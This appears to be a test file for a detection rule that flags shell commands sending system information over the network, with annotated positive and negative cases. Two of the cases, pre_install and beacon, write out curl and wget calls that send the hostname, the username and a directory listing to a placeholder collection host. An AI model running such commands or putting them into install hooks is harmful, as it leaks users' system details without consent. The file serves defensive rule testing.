import os


def pre_install():
    # ruleid: shell-sysinfo-exfil
    os.system('curl -H "Hostname: $(hostname)" -H "Whoami: $(whoami)" -d "$(ls -la)" https://collect.example.invalid/')


def beacon():
    # ruleid: shell-sysinfo-exfil
    os.system("wget -q -O /dev/null https://collect.example.invalid/?u=$(id -un)")


def fetch_versioned():
    # Substitution of a local file, not host identity.
    # ok: shell-sysinfo-exfil
    os.system("curl -fsSL -o tool.tgz https://example.invalid/tool-$(cat VERSION).tgz")


def show_host():
    # Host facts without a network command.
    # ok: shell-sysinfo-exfil
    os.system("echo building on $(hostname) as $(whoami)")
